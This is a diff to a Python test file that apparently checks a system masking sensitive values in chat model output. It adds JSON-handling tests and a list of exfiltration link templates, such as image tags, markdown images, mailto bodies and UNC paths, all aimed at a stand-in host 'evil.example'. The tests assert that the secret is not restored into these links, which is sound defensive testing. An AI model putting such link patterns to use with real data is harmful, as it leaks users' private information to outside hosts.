@@ -67,6 +67,28 @@ class TestJson:
         else:
             assert json.dumps(value)[1:-1] in text
 
+    @pytest.mark.parametrize("word", ["true", "false", "null", "-1.5e3", "[10, 20]", "12345"])
+    def test_words_and_numbers_before_a_value_may_be_cut_anywhere(
+        self, make: Make, word: str
+    ) -> None:
+        def talk(cut: Any) -> Talk:
+            return Talk(
+                make(FOUND), lambda c: Generation(f'{{"a":{word},"b":"{codes(c)[0]}"}}'), cut
+            )
+
+        said = both_ways(talk, user(f"Take {QUOTED} please")).text
+        assert json.loads(said) == {"a": json.loads(word), "b": QUOTED}
+
+    @pytest.mark.parametrize("template", ['{"a": %s}', '[{"a": [%s]}]', 'so: {"a": 1, "b": %s}'])
+    def test_a_value_that_the_model_wrote_without_quotes_gets_them(
+        self, make: Make, template: str
+    ) -> None:
+        def talk(cut: Any) -> Talk:
+            return Talk(make(FOUND), lambda c: Generation(template % codes(c)[0]), cut)
+
+        said = both_ways(talk, user(f"Take {QUOTED} please")).text
+        assert said == template % json.dumps(QUOTED)
+
     def test_json_in_json_is_escaped_twice(self, make: Make) -> None:
         def arguments(chat: Chat) -> str:
             return json.dumps({"body": json.dumps({"to": codes(chat)[0]})})
@@ -160,11 +182,16 @@ LINKS = [
     '<img src="https://evil.example/?q= %s">', "<a href='//evil.example/%s'>x</a>",
     '<img alt=">" src="//evil.example/ %s">', "www.evil.example/%s", "evil.example/?q=%s",
     "https://%s.evil.example/", "%s.evil.example", "background: url(//evil.example/%s)",
-    "[x](mailto:a@evil.example?body=%s)",
+    "[x](mailto:a@evil.example?body=%s)", 'https://evil.example/?q="%s"', "https://evil.example/a>%s",
+    "https://evil.example/a`%s", "![x](https://evil.example/\u2003%s)", "git@evil.example:%s",
+    "https://evil.example/\u00a0%s", "https:\\\\evil.example\\%s", "https:\\/\\/evil.example\\/%s",
+    "\\\\evil.example\\share\\%s", "%s@evil.example", '![](https://evil.example/?q={"%s"})',
+    '<a https://evil.example/>%s',
 ]  # fmt: skip
 NO_LINKS = [
     "Write to %s.", "[mail](mailto:%s)", '<a href="mailto:%s">', "see https://x.example, %s",
-    "![x](https://x.example/a) %s", "a < b and %s", '<p title="%s">', "%s: see above", "(%s)",
+    "![x](https://x.example/a) %s", '<a href="https://x.example/">%s</a>', "<https://x.example/> %s",
+    'get("https://x.example/", "%s")', "a < b and %s", '<p title="%s">', "%s: see above", "(%s)",
 ]  # fmt: skip
 
 
@@ -185,6 +212,21 @@ class TestUrls:
             return Talk(make(), calling(lambda c: json.dumps({"x": template % codes(c)[0]})), cut)
 
         assert MAIL not in both_ways(arguing, chat).tool_calls[0].arguments
+
+    def test_strings_of_json_are_texts_of_their_own_where_it_is_json(self, make: Make) -> None:
+        compact = '{"a":"https://x.example/","b":"%s"}'
+
+        def talk(cut: Any) -> Talk:
+            return Talk(make(), lambda c: Generation(compact % codes(c)[0]), cut)
+
+        def arguing(cut: Any) -> Talk:
+            return Talk(make(), calling(lambda c: compact % codes(c)[0]), cut)
+
+        chat = user(f"Write to {MAIL} about it")
+        asked = both_ways(talk, chat, response_format='{"type": "json_object"}').text
+        assert asked == both_ways(arguing, chat).tool_calls[0].arguments == compact % MAIL
+        # In a text it may be shown as one, and then the link goes on to the next blank.
+        assert MAIL not in both_ways(talk, chat).text
 
     @pytest.mark.parametrize("template", NO_LINKS)
     def test_elsewhere_it_comes_back(self, make: Make, template: str) -> None:
